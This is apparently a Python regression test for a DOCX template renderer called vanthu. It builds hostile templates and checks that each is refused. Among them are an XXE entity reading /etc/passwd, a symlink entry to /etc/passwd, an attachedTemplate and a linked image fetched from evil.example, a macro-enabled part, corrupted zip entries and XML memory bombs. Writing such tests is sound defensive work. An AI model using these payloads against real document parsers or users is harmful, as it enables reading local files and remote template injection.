#!/usr/bin/env python3
"""Hostile and broken templates, round 2 (issue 11, classes 1-8).

Each case builds a template from the shipped mau-1.7.docx, runs the real
binary (render, and validate, which must refuse the same things), and
checks the exit code, a message naming the problem, that nothing is left
in the output folder, and that every document written passes `unzip -t`.
Run by ctest as bad_template.
"""
import io
import os
import re
import struct
import subprocess
import sys
import tempfile
import zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from run import expect, rezip, doc_edit, run_case  # noqa: E402
from test_render import RESULTS, WRAP, check, parse_args, peak_rss, run, sanitized  # noqa: E402

BASE = 'plans/kim-thanh-2018-giay-moi-cum-1.xml'
W_NS = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
BODY = '<w:p><w:r><w:t>{{>body}}</w:t></w:r></w:p>'


def maker(edit):
    """A template maker (src, dst) from an entry edit for rezip."""
    return lambda src, dst: rezip(src, dst, edit)


def before_body(xml):
    """A template with xml before the {{>body}} paragraph."""
    return maker(doc_edit(lambda x: x.replace(BODY, xml + BODY, 1)))


def para(text):
    return '<w:p><w:r><w:t xml:space="preserve">%s</w:t></w:r></w:p>' % text


# ---- zip surgery: the bytes of one entry, in its local and central headers

def entry_offsets(data, name):
    """(local header offset, central header offset) of entry name."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        local = z.getinfo(name).header_offset
    cen = None
    eocd = data.rfind(b'PK\x05\x06')
    cd_off = struct.unpack_from('<I', data, eocd + 16)[0]
    pos = cd_off
    while data[pos:pos + 4] == b'PK\x01\x02':
        nlen, elen, clen = struct.unpack_from('<HHH', data, pos + 28)
        if data[pos + 46:pos + 46 + nlen] == name.encode():
            cen = pos
            break
        pos += 46 + nlen + elen + clen
    return local, cen


def patch_zip(src, dst, name, fn):
    """Copy src to dst letting fn(bytearray, local, central) patch entry name."""
    data = bytearray(open(src, 'rb').read())
    local, cen = entry_offsets(bytes(data), name)
    fn(data, local, cen)
    open(dst, 'wb').write(bytes(data))


def bad_crc(data, local, cen):
    for off in (local + 14, cen + 16):
        data[off] ^= 0xff


def broken_deflate(data, local, cen):
    nlen, elen = struct.unpack_from('<HH', data, local + 26)
    start = local + 30 + nlen + elen
    size = struct.unpack_from('<I', data, local + 18)[0]
    for i in range(start + 2, start + size - 2):
        data[i] = 0xff


def unknown_method(data, local, cen):
    struct.pack_into('<H', data, local + 8, 97)  # WavPack: no DOCX reader has it
    struct.pack_into('<H', data, cen + 10, 97)


def symlink(src, dst):
    def edit(name, data):
        if name:
            return data
        return []
    rezip(src, dst, edit)
    with zipfile.ZipFile(dst, 'a') as z:
        info = zipfile.ZipInfo('word/media/logo.png')
        info.create_system = 3
        info.external_attr = (0o120777 << 16)
        z.writestr(info, '/etc/passwd')


def utf16(decl):
    """document.xml in UTF-16 with the given DOCTYPE (may be '')."""
    def edit(name, data):
        if name != 'word/document.xml':
            return data if name else None
        x = data.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
        if decl:
            x = x.replace('<w:document', decl + '<w:document', 1).replace(
                '{{agency}} trân', '&x; {{agency}} trân', 1)
        return x.encode('utf-16')
    return edit


XXE = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'

MAIN_CT = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'


DECOY = ('<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="%s"><w:body>%s'
         '<w:sectPr/></w:body></w:document>' % (W_NS, para('DECOY')))


def decoy(content_type, decoy_text=DECOY):
    """_rels/.rels names word/main.xml (the real template); word/document.xml
    stays as a decoy that says DECOY."""
    def edit(name, data):
        if name == 'word/document.xml':
            return decoy_text.encode() if decoy_text else data
        if name == '_rels/.rels':
            return data.replace(b'Target="word/document.xml"', b'Target="word/main.xml"')
        if name == '[Content_Types].xml':
            return data.replace(b'</Types>', (
                '<Override PartName="/word/main.xml" ContentType="%s"/></Types>' % content_type).encode())
        if name == '':
            return None
        return data

    def make(src, dst):
        rezip(src, dst, edit)
        with zipfile.ZipFile(src) as z:
            main = z.read('word/document.xml')
            rels = z.read('word/_rels/document.xml.rels')
        with zipfile.ZipFile(dst, 'a', zipfile.ZIP_DEFLATED) as z:
            z.writestr('word/main.xml', main.decode().replace(BODY, para('REAL') + BODY, 1))
            z.writestr('word/_rels/main.xml.rels', rels)
    return make



EXT_REL = ('<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
           'Target="%s" TargetMode="External"/>')
EXT_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + EXT_REL + '</Relationships>')

def part_edit(part, f):
    """A template whose part is changed by f (text to text)."""
    def edit(name, data):
        if name == part:
            return f(data.decode()).encode()
        return data if name else None
    return maker(edit)


HEADER_FILLED = part_edit('word/header1.xml', lambda x: x.replace(
    '<w:p>', '<w:p><w:r><w:t xml:space="preserve">{{ky_hieu}} {{?chair}}</w:t></w:r></w:p><w:p>', 1))

COMMENTS = ('<?xml version="1.0" encoding="UTF-8"?><w:comments xmlns:w="%s"><w:comment w:id="0" '
            'w:author="A"><w:p><w:r><w:t>{{subject}}</w:t></w:r></w:p></w:comment></w:comments>' % W_NS)


def with_comments(src, dst):
    def edit(name, data):
        if name == 'word/_rels/document.xml.rels':
            return data.replace(b'</Relationships>', b'<Relationship Id="rId9" Type="http://schemas.'
                                b'openxmlformats.org/officeDocument/2006/relationships/comments" '
                                b'Target="comments.xml"/></Relationships>')
        if name == '[Content_Types].xml':
            return data.replace(b'</Types>', b'<Override PartName="/word/comments.xml" ContentType="'
                                b'application/vnd.openxmlformats-officedocument.wordprocessingml.'
                                b'comments+xml"/></Types>')
        if name == '':
            return [('word/comments.xml', COMMENTS)]
        return data
    rezip(src, dst, edit)


# ---- memory: a few hundred KB that once took gigabytes.  Under valgrind
# (VT_WRAP) the inputs are 10 times smaller, against --max-elements 50000.
SCALE = 10 if WRAP else 1
MEM_ARGS = ['--max-elements', '50000'] if WRAP else []

def big_doc(inner):
    return maker(doc_edit(lambda x: x.replace('<w:body>', '<w:body>' + inner(), 1)))


MEMORY = [
    ('tiny-elements', big_doc(lambda: '<a/>' * (3000000 // SCALE)), r'more XML elements, attributes and comments than the limit of \d+ \(raise it with --max-elements\)'),
    ('comments', big_doc(lambda: '<!---->' * (3000000 // SCALE)), r'limit of \d+ \(raise it with --max-elements\)'),
    ('many-attributes', big_doc(lambda: '<a ' + ' '.join('a%d=""' % i for i in range(1000000)) + '/>'),
     r'an element with more than 1000 attributes'),
    ('many-namespaces', big_doc(lambda: '<a ' + ' '.join('xmlns:a%d="x"' % i for i in range(1000000)) + '/>'),
     r'an element with more than 1000 attributes'),
    ('runs-of-braces', big_doc(lambda: '<w:p>' + '<w:r><w:t>{</w:t></w:r>' * (1500000 // SCALE) + '</w:p>'),
     r'limit of \d+'),
    ('unknown-placeholders', big_doc(lambda: para('{{x}}' * (2000000 // SCALE))), r'unknown placeholder \{\{x\}\}.*\n(.*\n){49}.*and \d+ more problems'),
    ('paragraphs', big_doc(lambda: para('{{agency}}') * (200000 // SCALE)), r'limit of \d+'),
    ('deep-nesting', big_doc(lambda: '<a>' * 100000 + '</a>' * 100000), r'not well-formed XML: .*(depth|nested|Excessive)'),
]
# Peak RSS allowed for any of them: see docs/templates.md (at most
# 5 x --max-part-bytes + 400 B x --max-elements; these stop far below).
RSS_LIMIT_MB = 400


def rss_of(cmd, env):
    """(returncode, peak RSS in KiB, stderr) of cmd."""
    rc, err, kb = peak_rss(cmd, env)
    return rc, kb, err


def main():
    a = parse_args()
    vanthu = a.vanthu
    tpl_dir = os.path.join(a.build, 'templates')
    src = os.path.join(tpl_dir, 'mau-1.7.docx')
    env = dict(os.environ, VANTHU_TEMPLATES=tpl_dir)
    good = os.path.join(a.source, BASE)

    refused = [
        # 1. forged marks, in text and in an attribute, by hex and decimal reference
        ('forged-mark-text', before_body(para('&#xE000;S99&#xE001;')), 1,
         r'forged-mark-text\.docx: word/document\.xml:\d+: text in <w:t> holds the private characters U\+E000/U\+E001'),
        ('forged-mark-attribute', before_body('<w:p><w:pPr><w:pStyle w:val="&#57344;B3&#57345;"/></w:pPr></w:p>'), 1,
         r'forged-mark-attribute\.docx: word/document\.xml:\d+: <w:pStyle> holds the private characters'),
        ('forged-mark-header', part_edit('word/header1.xml', lambda x: x.replace('<w:t>2</w:t>', '<w:t>&#xE000;S1&#xE001;</w:t>')), 1,
         r'word/header1\.xml:\d+: text in <w:t> holds the private characters'),
        ('forged-mark-comment', before_body('<!-- &#xE000; -->' + '<!-- \ue000S2\ue001 -->'), 1,
         r'comment or processing instruction holds the private characters'),
        # 2. encodings
        ('utf16-doctype-entity', maker(utf16(XXE)), 1,
         r'utf16-doctype-entity\.docx: word/document\.xml has a DOCTYPE'),
        ('latin1-declared', maker(doc_edit(lambda x: x.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"', 1))), 1,
         r'word/document\.xml is declared in the encoding "ISO-8859-1"; the parts of a DOCX are UTF-8 or UTF-16'),
        ('styles-doctype', part_edit('word/styles.xml', lambda x: x.replace('<w:styles', XXE.replace('w:document', 'w:styles') + '<w:styles', 1)), 1,
         r'word/styles\.xml has a DOCTYPE'),
        # 3. damaged copied parts
        ('bad-crc', lambda s, d: patch_zip(s, d, 'word/styles.xml', bad_crc), 1,
         r'bad-crc\.docx: the part word/styles\.xml cannot be read: its checksum \(CRC\) does not match'),
        ('broken-deflate', lambda s, d: patch_zip(s, d, 'word/styles.xml', broken_deflate), 1,
         r'broken-deflate\.docx: the part word/styles\.xml cannot be read: (its compressed data is broken|its checksum)'),
        ('unknown-method', lambda s, d: patch_zip(s, d, 'word/styles.xml', unknown_method), 1,
         r'unknown-method\.docx: the part word/styles\.xml cannot be read: it is compressed with a method a DOCX does not use'),
        # 4. links
        ('symlink-entry', symlink, 1,
         r'symlink-entry\.docx: the entry "word/media/logo\.png" is a symbolic link'),
        ('duplicate-name', lambda s, d: rezip(s, d, lambda n, x: x if n else [('WORD/STYLES.XML', b'<a/>')]), 1,
         r'two entries named "(word/styles\.xml|WORD/STYLES\.XML)"'),
        # 5. the main part
        ('decoy-wrong-type', decoy('application/xml'), 1,
         r'_rels/\.rels names word/main\.xml as the main document, but \[Content_Types\]\.xml gives it the type "application/xml"'),
        ('decoy-with-placeholders', decoy(MAIN_CT, None), 1,
         r'decoy-with-placeholders\.docx: word/document\.xml:\d+: the placeholder \{\{>header\}\} \(in <w:t>\) would be left as typed'),
        ('macro-enabled', decoy('application/vnd.ms-word.document.macroEnabled.main+xml'), 1,
         r'word/main\.xml is a macro-enabled document'),
        ('no-main-relationship', lambda s, d: rezip(s, d, lambda n, x: x.replace(b'officeDocument"', b'other"') if n == '_rels/.rels' else (x if n else None)), 1,
         r'_rels/\.rels names no main document'),
        # 6. placeholders vanthu would leave as typed
        ('comment-placeholder', with_comments, 1,
         r'word/comments\.xml:\d+: the placeholder \{\{subject\}\} \(in <w:t>\) would be left as typed'),
        ('fldsimple-placeholder', before_body('<w:p><w:fldSimple w:instr="{{number}}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'), 1,
         r'word/document\.xml:\d+: the placeholder \{\{number\}\} is in a field instruction \(w:fldSimple/@w:instr\)'),
        ('instrtext-placeholder', before_body('<w:p><w:r><w:instrText> {{ky_hieu}} </w:instrText></w:r></w:p>'), 1,
         r'the placeholder \{\{ky_hieu\}\} is in a field instruction \(<w:instrText>\)'),
        ('block-in-header', part_edit('word/header1.xml', lambda x: x.replace('<w:t>2</w:t>', '<w:t>{{>body}}</w:t>')), 1,
         r'word/header1\.xml:\d+: \{\{>body\}\} is a block, which belongs in the document body'),
        ('alt-text-placeholder', before_body('<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
                                             'drawingml/2006/wordprocessingDrawing"><wp:docPr id="9" name="x" descr="{{subject}}"/>'
                                             '</wp:inline></w:drawing></w:r></w:p>'), 1,
         r'the placeholder \{\{subject\}\} is in the attribute descr of <wp:docPr>'),
        # 9. links that make Word fetch something when a letter opens (template injection)
        ('attached-template', lambda s, d: rezip(s, d, lambda n, x: x if n else [(
            'word/_rels/settings.xml.rels', EXT_RELS % ('attachedTemplate', r'file://\\evil.example\share\t.dotm'))]), 1,
         r'attached-template\.docx: word/_rels/settings\.xml\.rels links its attachedTemplate to "file://.*evil\.example.*" outside the file'),
        ('linked-picture', lambda s, d: rezip(s, d, lambda n, x: x.replace(
            b'</Relationships>', (EXT_REL % ('image', 'http://evil.example/p.png')).encode() + b'</Relationships>')
            if n == 'word/_rels/document.xml.rels' else (x if n else None)), 1,
         r'word/_rels/document\.xml\.rels links its image to "http://evil\.example/p\.png" outside the file'),
        # 8. control characters and bidi overrides in a quoted name
        ('control-in-name', before_body(para('{{ag\tency\u202e}}')), 1,
         r'unknown placeholder \{\{ag\\x09ency<U\+202E>\}\}'),
    ]
    with tempfile.TemporaryDirectory(prefix='vt-bad-template-') as tmp:
        os.chmod(tmp, 0o755)
        for name, make, code, pattern in refused:
            path = os.path.join(tmp, name + '.docx')
            make(src, path)
            out = os.path.join(tmp, 'out-' + name)
            os.makedirs(out)
            r = run_case(vanthu, ['render', good, '-t', path, '-o', os.path.join(out, 'x.docx')], env)
            expect('template %s (render)' % name, r, code, pattern, out)
            r = run_case(vanthu, ['validate', path], env)
            expect('template %s (validate)' % name, r, code, pattern, out)
        ok = run_case(vanthu, ['validate', os.path.join(tmp, 'control-in-name.docx')], env)
        check(ok is not None and '\u202e' not in ok.stderr and '\t' not in ok.stderr,
              'control-in-name: no raw tab or RLO reaches the terminal')

        def render_ok(name, make, plan=good):
            path = os.path.join(tmp, name + '.docx')
            make(src, path)
            out = os.path.join(tmp, 'ok-' + name + '.docx')
            r = run_case(vanthu, ['render', plan, '-t', path, '-o', out], env)
            sound = (r is not None and r.returncode == 0 and os.path.exists(out)
                     and run(['unzip', '-tq', out]).returncode == 0)
            if not sound and r is not None:
                print('     ', r.returncode, r.stderr.strip()[:300])
            return sound, (zipfile.ZipFile(out) if sound else None)

        # 2. a UTF-16 template without DOCTYPE works, and its document comes out UTF-8
        sound, z = render_ok('utf16-plain', maker(utf16('')))
        doc = z.read('word/document.xml') if z else b''
        check(sound and doc.startswith(b'<?xml version="1.0" encoding="UTF-8"') and b'\x00' not in doc
              and 'Phòng Giáo dục và Đào tạo trân trọng kính mời'.encode() in doc,
              'UTF-16 template: filled, written as UTF-8 with a UTF-8 declaration')

        # 5. the main part is the one _rels/.rels names; the decoy stays untouched
        sound, z = render_ok('decoy-main', decoy(MAIN_CT))
        real = z.read('word/main.xml').decode() if z else ''
        fake = z.read('word/document.xml').decode() if z else ''
        check(sound and 'REAL' in real and 'trân trọng kính mời' in real and '{{' not in real
              and 'DECOY' in fake, 'decoy: word/main.xml (named by _rels/.rels) is filled, not word/document.xml')

        # 9. a hyperlink may point outside: Word follows it only when clicked
        sound, z = render_ok('external-hyperlink', lambda s, d: rezip(s, d, lambda n, x: x.replace(
            b'</Relationships>', (EXT_REL % ('hyperlink', 'https://moet.gov.vn/')).encode() + b'</Relationships>')
            if n == 'word/_rels/document.xml.rels' else (x if n else None)))
        check(sound and b'https://moet.gov.vn/' in (z.read('word/_rels/document.xml.rels') if z else b''),
              'an external hyperlink in a template is kept')

        # 6. placeholders in a header are filled like the body
        sound, z = render_ok('header-filled', HEADER_FILLED)
        hdr = z.read('word/header1.xml').decode() if z else ''
        check(sound and '12/GM-PGDĐT' in hdr and '{{' not in hdr and hdr.startswith('<?xml version="1.0" encoding="UTF-8"'),
              'header: {{ky_hieu}} filled in word/header1.xml (%r)' % re.findall(r'<w:t[^>]*>([^<]*)', hdr)[:2])
        # ... and a header whose condition fails drops its paragraph
        nochair = os.path.join(tmp, 'no-chair.xml')
        open(nochair, 'w', encoding='utf-8').write(
            open(good, encoding='utf-8').read().replace(
                '<chair>Lãnh đạo Phòng Giáo dục và Đào tạo</chair>', '', 1))
        sound, z = render_ok('header-condition', HEADER_FILLED, nochair)
        hdr = z.read('word/header1.xml').decode() if z else ''
        check(sound and '12/GM-PGDĐT' not in hdr and 'PAGE' in hdr,
              'header: a paragraph with {{?chair}} is dropped when the plan has no chair')

        # 6. more than 64 placeholders in one paragraph: all filled
        sound, z = render_ok('many-placeholders', before_body(para('{{number}}|' * 100)))
        doc = z.read('word/document.xml').decode() if z else ''
        check(sound and doc.count('Số: 12/GM-PGDĐT|') == 100 and '{{number}}' not in doc,
              '100 placeholders in one paragraph: all 100 filled')

        # 6. two conditions in one paragraph: kept only when both hold
        two = before_body(para('{{?chair}}{{?venue}}BOTH-HOLD') + para('{{?chair}}{{?school}}ONE-FAILS')
                          + '<w:p><w:r><w:t>{{?school}}OUTER</w:t></w:r><w:r><w:pict><v:shape xmlns:v="urn:'
                          'schemas-microsoft-com:vml"><v:textbox><w:txbxContent><w:p><w:r><w:t>{{?chair}}INNER'
                          '</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>')
        sound, z = render_ok('two-conditions', two)
        doc = z.read('word/document.xml').decode() if z else ''
        check(sound and 'BOTH-HOLD' in doc and 'ONE-FAILS' not in doc and 'OUTER' not in doc
              and 'INNER' not in doc,
              'two conditions in a paragraph: kept only when both hold; a failed outer one drops the inner')

        # 7. memory: refused quickly, with a bounded peak RSS (ASan's
        # shadow memory and quarantine take up to 4 times as much)
        rss_limit_mb = RSS_LIMIT_MB * (4 if sanitized(a.build) else 1)
        for name, make, pattern in MEMORY:
            path = os.path.join(tmp, 'mem-' + name + '.docx')
            make(src, path)
            out = os.path.join(tmp, 'out-mem-' + name)
            os.makedirs(out)
            cmd = WRAP + [vanthu, 'render', good, '-t', path, '-o', os.path.join(out, 'x.docx')] + MEM_ARGS
            try:
                rc, rss, err = rss_of(cmd, env)
            except subprocess.TimeoutExpired:
                check(False, 'memory %s: timed out' % name)
                continue
            left = os.listdir(out)
            limit_ok = WRAP or rss < rss_limit_mb * 1024
            check(rc == 1 and re.search(pattern, err) is not None and not left and limit_ok,
                  'memory %s (%d KB): exit 1, /%s/, peak RSS %d MB < %d MB (got %d: %s)'
                  % (name, os.path.getsize(path) // 1024, pattern, rss // 1024, rss_limit_mb, rc,
                     ' | '.join(err.strip().splitlines())[:200]))
        # accepted near the limit: 110 000 filled paragraphs (440 000 tree
        # units), rendered within the same bound (skipped under valgrind)
        if not WRAP:
            path = os.path.join(tmp, 'mem-accepted.docx')
            big_doc(lambda: para('{{agency}}') * 110000)(src, path)
            out = os.path.join(tmp, 'mem-accepted-out.docx')
            rc, rss, err = rss_of([vanthu, 'render', good, '-t', path, '-o', out], env)
            check(rc == 0 and rss < rss_limit_mb * 1024 and run(['unzip', '-tq', out]).returncode == 0,
                  'memory: 110 000 filled paragraphs (%d KB) rendered, peak RSS %d MB < %d MB (got %d: %s)'
                  % (os.path.getsize(path) // 1024, rss // 1024, rss_limit_mb, rc, err.strip()[:200]))
        # the shipped templates still render, with every part sound
        for fam in ('mau-1.4', 'mau-1.5', 'mau-1.7'):
            r = run_case(vanthu, ['validate', os.path.join(tpl_dir, fam + '.docx')], env)
            check(r is not None and r.returncode == 0, 'shipped %s validates' % fam)
    print('%d passed, %d failed' % (RESULTS['passed'], RESULTS['failed']))
    return 1 if RESULTS['failed'] else 0


if __name__ == '__main__':
    sys.exit(main())
